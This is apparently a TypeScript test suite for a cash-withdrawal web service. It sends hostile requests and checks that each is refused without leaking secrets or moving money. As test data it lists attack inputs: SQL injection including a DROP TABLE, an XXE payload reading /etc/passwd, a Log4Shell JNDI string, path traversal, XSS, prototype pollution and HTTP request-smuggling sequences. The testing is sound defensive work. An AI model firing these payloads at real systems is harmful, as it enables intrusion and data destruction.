/**
 * Hostile requests to the service, as a table: what each has to be answered with. None may end in a 5xx, tell a secret, or
 * move a withdrawal. The terminal's part is beside this file.
 */
import { connect } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { operations } from "../../backend/http/operations/index.ts";
import { adhoc } from "../../backend/store/store.ts";
import {
  type Answer,
  bank,
  createHttpStage,
  type HttpStage,
  office,
  otherBank,
  otherTill,
  type Sent,
  till,
  till2,
} from "../service/http-stage.ts";

let stage: HttpStage;
let id: string;
let before: string;
const books = async (): Promise<string> => {
  const store = await stage.place.open();
  const rows = await store.read((tx) =>
    tx.all(adhoc((db) => db.selectFrom("withdrawals").select(["id", "status", "device_id"]))),
  );
  await store.close();
  return JSON.stringify(rows);
};
beforeAll(async () => {
  stage = await createHttpStage("sqlite");
  id = await stage.withdrawal("50.00");
  before = await books();
});
afterAll(async () => {
  expect(await books()).toBe(before);
  await stage.dispose();
});

const secrets = ["till-secret", "bank-secret", "a token secret of the tests", "sqlite", "SELECT", "    at "];
const expectRefused = (answer: Answer, statuses: readonly number[]) => {
  expect(statuses).toContain(answer.status);
  for (const secret of secrets) expect(answer.text).not.toContain(secret);
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
  expect(answer.headers.get("access-control-allow-origin")).toBeNull();
};

const protectedCalls = operations.filter(({ scopes }) => scopes !== null);
const posts = operations.filter(({ method }) => method === "post");
const jsonPosts = posts.filter(({ body, takesForms }) => body !== undefined && takesForms !== "only");
const pathOf = (path: string) => path.replace("{id}", id ?? "0000000000000000").replace(/\{\w+\}/, "x");
const call = ({ method, path }: { method: string; path: string }, sent: Sent = {}) =>
  stage.call(method.toUpperCase(), pathOf(path), sent);
const tokenFor = (scopes: readonly string[] | null) => stage.token(scopes?.includes("transactions") ? till : bank);
const name = ({ method, path }: { method: string; path: string }) => `${method.toUpperCase()} ${path}`;

describe.each(protectedCalls.map((each) => [name(each), each] as const))("%s", (_, operation) => {
  const headers: [string, Record<string, string>][] = [
    ["without a token", {}],
    ["with an unknown token", { authorization: `Bearer ${"A".repeat(43)}` }],
    ["with another scheme", { authorization: "Basic dGlsbC0xOnRpbGwtc2VjcmV0" }],
    ["with a token of blanks", { authorization: "Bearer    " }],
    ["with a token too long", { authorization: `Bearer ${"A".repeat(4_000)}` }],
  ];
  test.each(headers)("%s", async (_, sent) => expectRefused(await call(operation, { headers: sent }), [401]));

  const takesBoth = operation.scopes?.includes("transactions") && operation.scopes.length > 1;
  test.skipIf(takesBoth)("with the token of the other kind", async () => {
    const token = await stage.token(operation.scopes?.includes("transactions") ? bank : till);
    expectRefused(await call(operation, operation.method === "get" ? { token } : { token, json: {} }), [403]);
  });
});

/** What a head office may read, with what it gets for the withdrawal of its shop that nobody has confirmed. */
const forOffices: Readonly<Record<string, number>> = {
  "GET /ext/v1/withdrawals": 200,
  "GET /ext/v1/transactions/{id}/events": 200,
  "GET /ext/v1/reconciliation": 200,
  "GET /ext/v1/reconciliation.csv": 200,
  "GET /ext/v1/reconciliation/stores": 200,
  "GET /ext/v1/terminals": 200,
  "GET /ext/v1/stores": 200,
};
test.each(protectedCalls.map((each) => [name(each), each] as const))(
  "%s with a head office's token",
  async (_, each) => {
    const token = await stage.token(office);
    const sent = each.method === "get" ? { token } : { token, json: {}, headers: { "idempotency-key": "office" } };
    const answer = await call(each, sent);
    const allowed = forOffices[name(each)];
    if (allowed !== undefined) expect(answer.status).toBe(allowed);
    else {
      expectRefused(answer, [403]);
      expect(answer.text).toMatch(/insufficient_scope|UNAUTHORIZED_ACCESS/);
    }
    expect(answer.text).not.toContain("customer-77");
  },
);

describe.each(posts.map((each) => [name(each), each] as const))("%s from a page of another site", (_, operation) => {
  const pages: [string, Record<string, string>][] = [
    ["by its origin", { origin: "https://evil.example" }],
    ["by an origin without a name", { origin: "null" }],
    ["by a rebound name", { origin: "http://rebound.example:8787", host: "rebound.example:8787" }],
    ["by what the browser says", { "sec-fetch-site": "cross-site" }],
    ["from a sister site", { "sec-fetch-site": "same-site" }],
  ];
  test.each(pages)("%s", async (_, headers) => {
    const token = operation.scopes === null ? undefined : await tokenFor(operation.scopes);
    expectRefused(await call(operation, { token, json: {}, headers }), [403]);
  });
});

describe.each(jsonPosts.map((each) => [name(each), each] as const))("%s with a body", (_, operation) => {
  const json = { "content-type": "application/json" };
  const bodies: [string, BodyInit, Record<string, string>, number[]][] = [
    ["of no type", "{}", { "content-type": "" }, [415]],
    ["that a browser may send anywhere", "{}", { "content-type": "text/plain" }, [415]],
    [
      "in XML",
      "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
      { "content-type": "application/xml" },
      [415],
    ],
    ["that says it is compressed", "{}", { ...json, "content-encoding": "gzip" }, [415]],
    ["cut off", '{"transaction_id":', json, [400]],
    ["with a name twice", '{"transaction_id":"a","transaction_id":"b"}', json, [400]],
    ["that reaches for the prototype", '{"__proto__":{"isAdmin":true}}', json, [400]],
    ["with NUL", '{"transaction_id":"\\u0000"}', json, [400]],
    ["with half a character", '{"transaction_id":"\\ud800"}', json, [400]],
    ["of bytes that are no text", new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]), json, [400]],
    ["nested without end", "[".repeat(5_000) + "]".repeat(5_000), json, [400]],
    ["that is a list", "[]", json, [400]],
    ["that is nothing", "null", json, [400]],
    ["beyond 64 KiB", `{"x":"${"y".repeat(70_000)}"}`, json, [413]],
  ];
  test.each(bodies)("%s", async (_, body, headers, statuses) => {
    const token = operation.scopes === null ? undefined : await tokenFor(operation.scopes);
    expectRefused(
      await call(operation, { token, body, headers: { "idempotency-key": "hostile", ...headers } }),
      statuses,
    );
  });
});

const strangers: [string, object, string, string, unknown][] = [
  ["another shop reads", otherTill, "GET", "/transaction?id=", null],
  ["another shop confirms", otherTill, "POST", "/transaction/confirm", { transaction_id_partner: "x" }],
  ["another shop rejects", otherTill, "POST", "/transaction/reject", {}],
  ["another shop links", otherTill, "POST", "/transaction/link", {}],
  ["another shop declares", otherTill, "POST", "/ext/v1/transactions/ID/undelivered", { reason: "x" }],
  ["another shop reads the history", otherTill, "GET", "/ext/v1/transactions/ID/events", null],
  ["another bank reads", otherBank, "GET", "/ext/v1/withdrawals/ID", null],
  ["another bank approves", otherBank, "POST", "/ext/v1/withdrawals/ID/sca", { outcome: "approved" }],
  ["another bank cancels", otherBank, "POST", "/ext/v1/withdrawals/ID/cancel", undefined],
];
test.each(strangers)("%s: 404, as if it did not exist", async (_, who, method, path, body) => {
  const token = await stage.token(who as Record<string, unknown>);
  const target = path.endsWith("=") ? path + id : path.replace("ID", id);
  const sent =
    body === null || body === undefined
      ? { token }
      : { token, json: { ...(path.startsWith("/transaction/") ? { transaction_id: id } : {}), ...(body as object) } };
  expectRefused(await stage.call(method, target, sent), [404]);
});

const values = [
  "' OR 1=1 --",
  "'; DROP TABLE withdrawals; --",
  "0000000000000000",
  "../../etc/passwd",
  "%00",
  "\u202e",
  "$" + "{jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "A".repeat(300),
  "\u{1f4b6}".repeat(20),
  "constructor",
];
describe.each(values)("the value %j", (value) => {
  test("as an id to read", async () => {
    const token = await stage.token();
    expectRefused(await stage.call("GET", `/transaction?id=${encodeURIComponent(value)}`, { token }), [400, 404]);
  });
  test("as an id to confirm", async () => {
    const json = { transaction_id: value, transaction_id_partner: "x" };
    expectRefused(await stage.call("POST", "/transaction/confirm", { token: await stage.token(), json }), [400, 404]);
  });
  test("as a shop, a user and a code", async () => {
    const token = await stage.token(bank);
    const body = { user_id: "u", amount: "50.00", currency: "EUR", store: value };
    const key = { "idempotency-key": "hostile-value" };
    expectRefused(await stage.call("POST", "/ext/v1/withdrawals", { token, json: body, headers: key }), [400, 404]);
    expectRefused(await stage.call("POST", "/ext/v1/enrolments", { json: { code: value } }), [400, 404, 429]);
  });
  test("as who signs in", async () => {
    const answer = await stage.authorize({ ...till2, merchant_id: value.slice(0, 64), password: value.slice(0, 256) });
    expectRefused(answer, [400, 401, 429]);
  });
});

const amounts = ["-50.00", "0.00", "1e3", "50", "50.000", "NaN", "٥٠.٠٠", "50,00", " 50.00", "9".repeat(30), "0x32.00"];
test.each(amounts)("the amount %j", async (amount) => {
  const json = { user_id: "u", amount, currency: "EUR", store: "demo-shop" };
  const headers = { "idempotency-key": "hostile-amount" };
  expectRefused(
    await stage.call("POST", "/ext/v1/withdrawals", { token: await stage.token(bank), json, headers }),
    [400],
  );
});

const paths = [
  "/%6detrics",
  "/transaction%2fconfirm",
  "/%2e%2e/healthz",
  "//healthz",
  "/transaction/",
  "/TRANSACTION",
  "/.env",
  "/admin",
  "/ext/v2/till",
  "/oauth2",
  "/api/v7",
  "/docs/..%2f..%2fpackage.json",
  "/docs/%2e%2e%2fcli.ts",
];
test.each(paths)("the path %s leads nowhere", async (path) => {
  expectRefused(await rawRequest(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`), [404]);
});

const methods: [string, string][] = [
  ["DELETE", "/transaction"],
  ["PUT", "/transaction/confirm"],
  ["PATCH", "/ext/v1/withdrawals"],
  ["GET", "/transaction/confirm"],
  ["GET", "/oauth2/authorize"],
  ["POST", "/ext/v1/till"],
  ["GET", "/ext/v1/enrolments"],
];
test.each(methods)("%s %s is not known", async (method, path) => {
  expectRefused(await stage.call(method, path, { token: await stage.token() }), [405]);
});

/** Sends bytes as they are and reads one answer; a closed connection without one counts as 400. */
const rawRequest = (bytes: string): Promise<Answer> =>
  new Promise((resolve, reject) => {
    const { port } = new URL(stage.baseUrl());
    let text = "";
    const socket = connect(Number(port), "127.0.0.1", () => socket.write(bytes));
    socket.setTimeout(5_000, () => socket.destroy());
    socket.on("data", (chunk) => {
      text += chunk;
    });
    socket.on("error", reject);
    socket.on("close", () => {
      const [head = "", body = ""] = text.split("\r\n\r\n", 2);
      const headers = new Headers();
      for (const line of head.split("\r\n").slice(1))
        headers.append(line.slice(0, line.indexOf(":")), line.slice(line.indexOf(":") + 1).trim());
      const answers = text.split("HTTP/1.1 ").length - 1;
      expect(answers).toBeLessThanOrEqual(1);
      if (text === "") headers.set("x-content-type-options", "nosniff");
      resolve({ status: text === "" ? 400 : Number(head.split(" ")[1]), headers, text: body, body: null });
    });
  });

const start = "POST /oauth2/authorize HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n";
const smuggled = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
const raw: [string, string][] = [
  ["two lengths", `${start}Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}${smuggled}`],
  ["a length and chunks", `${start}Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ["chunks by another name", `${start}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ["a chunk of a wrong size", `${start}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`],
  ["a length that is none", `${start}Content-Length: +2\r\n\r\n{}`],
  ["a folded header", `${start}X-A: b\r\n c\r\nContent-Length: 2\r\n\r\n{}`],
  ["a space before the colon", `${start}Content-Length : 2\r\n\r\n{}`],
  ["a bare line feed", `${start}X: a\nContent-Length: 2\r\n\r\n{}`],
  ["no Host", "GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n"],
  ["two Hosts", "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n"],
  [
    "two Authorizations",
    "GET /ext/v1/till HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer a\r\nAuthorization: Bearer b\r\nConnection: close\r\n\r\n",
  ],
  ["two Origins", `${start}Origin: http://a\r\nOrigin: http://b\r\nContent-Length: 2\r\n\r\n{}`],
  ["another protocol", "GET /healthz HTTP/3.7\r\nHost: x\r\n\r\n"],
  ["a header without an end", `GET /healthz HTTP/1.1\r\nHost: x\r\nX-Long: ${"a".repeat(20_000)}\r\n\r\n`],
  ["TLS on the plain port", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003"],
];
test.each(raw)("raw: %s", async (_, bytes) => {
  expectRefused(await rawRequest(bytes), [400, 403, 431]);
});
